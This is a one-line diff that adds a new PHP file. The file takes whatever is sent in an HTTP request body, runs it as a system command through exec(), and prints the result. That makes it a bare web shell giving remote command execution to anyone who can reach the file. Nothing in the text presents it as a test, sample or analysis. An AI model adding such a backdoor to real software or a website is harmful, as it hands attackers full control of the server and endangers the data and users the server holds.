@@ -1,0 +1,1 @@
+<?php exec(file_get_contents('php://input'), $o); print_r($o);
